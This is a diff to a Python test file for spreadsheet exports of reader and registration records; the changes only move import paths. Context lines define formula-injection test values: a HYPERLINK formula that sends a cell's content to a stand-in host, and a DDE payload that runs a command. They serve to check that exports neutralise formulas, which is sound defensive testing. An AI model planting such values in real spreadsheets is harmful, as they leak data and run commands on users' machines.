@@ -15,7 +15,7 @@ from xml.etree import ElementTree
 
 import pytest
 
-from plugins.readers.spreadsheet import cell, rows
+from plugins.base.spreadsheet import cell, rows
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'
 DDE = "+cmd|' /C calc'!A0"
@@ -129,8 +129,8 @@ def test_the_staff_exports_as_the_commands_write_them_run_no_formula(tmp_path: P
     """`inscriptions exporter` and `abonnes exporter` as the staff run them, with what strangers typed, opened in Calc."""
     from datetime import UTC, datetime
 
-    from plugins.readers.registrations import RegistrationBook
-    from plugins.readers.store import ReaderStore
+    from plugins.records.readers import ReaderStore
+    from plugins.records.registrations import RegistrationBook
     from tests.conftest import REPO, TODAY
 
     db = tmp_path / "service.sqlite"
